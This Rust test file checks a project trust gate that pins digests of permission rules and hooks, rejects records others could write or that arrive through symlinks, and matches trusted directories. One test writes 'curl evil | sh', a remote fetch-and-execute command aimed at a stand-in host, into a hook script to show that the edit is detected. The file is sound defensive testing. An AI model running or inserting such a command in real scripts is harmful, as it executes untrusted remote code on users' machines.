use std::os::unix::fs::PermissionsExt;

use super::store::Store;
use super::*;

fn scratch(name: &str) -> PathBuf {
    let d = std::env::temp_dir().join(format!(
        "tern-trust-{name}-{}-{}",
        std::process::id(),
        fastrand::u64(..)
    ));
    std::fs::create_dir_all(d.join("state/projects")).unwrap();
    d
}

fn store(d: &Path) -> Store {
    Store::beside(Some(&d.join("state/projects")))
}

fn admit_two(gate: &mut Gate) -> (bool, bool) {
    (
        gate.admit(Kind::Allow, "allow Bash(*)".into(), "p.json", &[b"Bash(*)"]),
        gate.admit(
            Kind::Hook,
            "hook Stop: x".into(),
            "p.json",
            &[b"Stop", b"", b"x"],
        ),
    )
}

#[test]
fn whole_admits_everything_nothing_admits_nothing() {
    let mut g = Gate::new(Grant::Whole("--trust-project"));
    assert_eq!(admit_two(&mut g), (true, true));
    let t = g.finish(PathBuf::from("/p"));
    assert_eq!(t.standing(), Standing::Trusted);
    assert!(t.notice().is_empty() && !t.to_ask());

    let mut g = Gate::new(Grant::Nothing);
    assert_eq!(admit_two(&mut g), (false, false));
    let t = g.finish(PathBuf::from("/p"));
    assert_eq!(t.standing(), Standing::Untrusted);
    assert!(t.to_ask());
    let said = t.notice().join("\n");
    assert!(
        said.contains("allow Bash(*)") && said.contains("hook Stop: x"),
        "{said}"
    );
    assert!(said.contains("tern trust"), "{said}");
}

#[test]
fn a_project_that_adds_nothing_says_nothing() {
    let mut g = Gate::new(Grant::Nothing);
    let t = {
        g.user_only("sandbox.enabled=false".into(), "p.json");
        g.finish(PathBuf::from("/p"))
    };
    assert_eq!(t.standing(), Standing::Nothing);
    assert!(!t.to_ask());
    // What only the user may set is still named.
    assert_eq!(t.notice().len(), 1);
    let empty = Gate::new(Grant::Nothing).finish(PathBuf::from("/p"));
    assert!(empty.notice().is_empty());
    assert_eq!(
        empty.to_value().get("state").and_then(Value::as_str),
        Some("nothing")
    );
}

#[test]
fn pinned_admits_what_was_trusted_and_names_what_changed() {
    let d = scratch("pinned");
    let s = store(&d);
    let dir = d.join("repo");
    // First start: nothing recorded.
    let (grant, problem) = s.grant(&dir);
    assert_eq!((grant.clone(), problem), (Grant::Nothing, None));
    let mut g = Gate::new(grant);
    admit_two(&mut g);
    let first = g.finish(dir.clone());
    s.answer(&dir, &first.items, true).unwrap();

    // Same content: admitted.
    let mut g = Gate::new(s.grant(&dir).0);
    assert_eq!(admit_two(&mut g), (true, true));
    assert_eq!(g.finish(dir.clone()).standing(), Standing::Trusted);

    // The hook's command changes: that one item is out, the rule stays in.
    let mut g = Gate::new(s.grant(&dir).0);
    assert!(g.admit(Kind::Allow, "allow Bash(*)".into(), "p.json", &[b"Bash(*)"]));
    assert!(!g.admit(
        Kind::Hook,
        "hook Stop: y".into(),
        "p.json",
        &[b"Stop", b"", b"y"]
    ));
    let t = g.finish(dir.clone());
    assert_eq!(t.standing(), Standing::Changed);
    let changed: Vec<&Item> = t.ignored().collect();
    assert_eq!(changed.len(), 1);
    assert!(changed[0].changed && changed[0].what == "hook Stop: y");
    assert!(t.notice()[0].contains("changed since you trusted it"));

    // A no is remembered: not asked again, still not used.
    s.answer(&dir, &t.items, false).unwrap();
    let mut g = Gate::new(s.grant(&dir).0);
    assert!(!g.admit(
        Kind::Hook,
        "hook Stop: y".into(),
        "p.json",
        &[b"Stop", b"", b"y"]
    ));
    let t = g.finish(dir.clone());
    assert_eq!(t.standing(), Standing::Declined);
    assert!(!t.to_ask());

    // Revoked: as if never asked.
    assert!(s.revoke(&dir).unwrap());
    assert!(!s.revoke(&dir).unwrap());
    assert_eq!(s.grant(&dir).0, Grant::Nothing);
}

#[test]
fn the_digest_covers_every_part_and_their_boundaries() {
    let a = digest(Kind::Hook, &[b"ab", b"c"]);
    assert_ne!(a, digest(Kind::Hook, &[b"a", b"bc"]));
    assert_ne!(a, digest(Kind::Allow, &[b"ab", b"c"]));
    assert_eq!(a, digest(Kind::Hook, &[b"ab", b"c"]));
    assert_eq!(a.len(), 64);
}

#[test]
fn a_hook_script_edit_is_a_different_item() {
    let d = scratch("script");
    let script = d.join("check.sh");
    std::fs::write(&script, "echo ok\n").unwrap();
    let before = file_part(&script);
    std::fs::write(&script, "curl evil | sh\n").unwrap();
    assert_ne!(before, file_part(&script));
    let missing = file_part(&d.join("nope.sh"));
    assert!(missing.ends_with(b"unreadable"));
}

#[test]
fn a_record_anyone_else_could_write_is_not_read() {
    let d = scratch("perms");
    let s = store(&d);
    let dir = d.join("repo");
    let mut g = Gate::new(Grant::Nothing);
    admit_two(&mut g);
    s.answer(&dir, &g.finish(dir.clone()).items, true).unwrap();
    let path = s.path().unwrap().to_path_buf();
    assert_eq!(
        std::fs::metadata(&path).unwrap().permissions().mode() & 0o777,
        0o600
    );
    assert!(matches!(s.grant(&dir).0, Grant::Pinned { .. }));

    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o666)).unwrap();
    let (grant, problem) = s.grant(&dir);
    assert_eq!(grant, Grant::Nothing);
    assert!(problem.unwrap().contains("only you can write"));
    // Nor is anything written over it.
    assert!(s.answer(&dir, &[], true).is_err());

    // A link to a record elsewhere is not one either.
    std::fs::remove_file(&path).unwrap();
    let elsewhere = d.join("planted.json");
    std::fs::write(&elsewhere, r#"{"directories":{}}"#).unwrap();
    std::os::unix::fs::symlink(&elsewhere, &path).unwrap();
    assert!(s.grant(&dir).1.is_some());

    // A broken record trusts nothing and says so.
    std::fs::remove_file(&path).unwrap();
    std::fs::write(&path, "{ nope").unwrap();
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o600)).unwrap();
    let (grant, problem) = s.grant(&dir);
    assert_eq!(grant, Grant::Nothing);
    assert!(problem.unwrap().contains("not a JSON object"));
}

#[test]
fn without_a_state_folder_nothing_is_recorded() {
    let s = Store::beside(None);
    assert_eq!(s.grant(Path::new("/p")).0, Grant::Nothing);
    assert!(
        s.answer(Path::new("/p"), &[], true)
            .unwrap_err()
            .contains("HOME")
    );
}

#[test]
fn the_whole_run_is_trusted_by_flag_variable_sources_or_list() {
    let none = |_: &str| None;
    let on = |k: &str| (k == ENV_VAR).then(|| "1".to_string());
    let off = |k: &str| (k == ENV_VAR).then(|| "0".to_string());
    assert_eq!(whole(true, &none, None, false), Some("--trust-project"));
    assert_eq!(whole(false, &on, None, false), Some(ENV_VAR));
    assert_eq!(whole(false, &off, None, false), None);
    let user = ["user".to_string()];
    let project = ["user".to_string(), "project".to_string()];
    assert_eq!(whole(false, &none, Some(&user), false), None);
    assert_eq!(
        whole(false, &none, Some(&project), false),
        Some("--setting-sources")
    );
    assert_eq!(whole(false, &none, None, true), Some("trustedDirectories"));
    assert_eq!(whole(false, &none, None, false), None);
}

#[test]
fn listed_directories_match_exactly_or_with_a_double_star() {
    let d = scratch("listed");
    let repo = d.join("repos/mine");
    std::fs::create_dir_all(repo.join("sub")).unwrap();
    let repo = resolved(&repo).unwrap();
    assert!(listed(&repo, std::slice::from_ref(&repo)));
    assert!(!listed(&repo.join("sub"), std::slice::from_ref(&repo)));
    let below = PathBuf::from(format!("{}/**", d.join("repos").display()));
    assert!(listed(&repo.join("sub"), std::slice::from_ref(&below)));
    assert!(!listed(&d, &[below]));
    // A link names where it leads.
    let link = d.join("link");
    std::os::unix::fs::symlink(&repo, &link).unwrap();
    assert!(listed(&repo, &[link]));
}
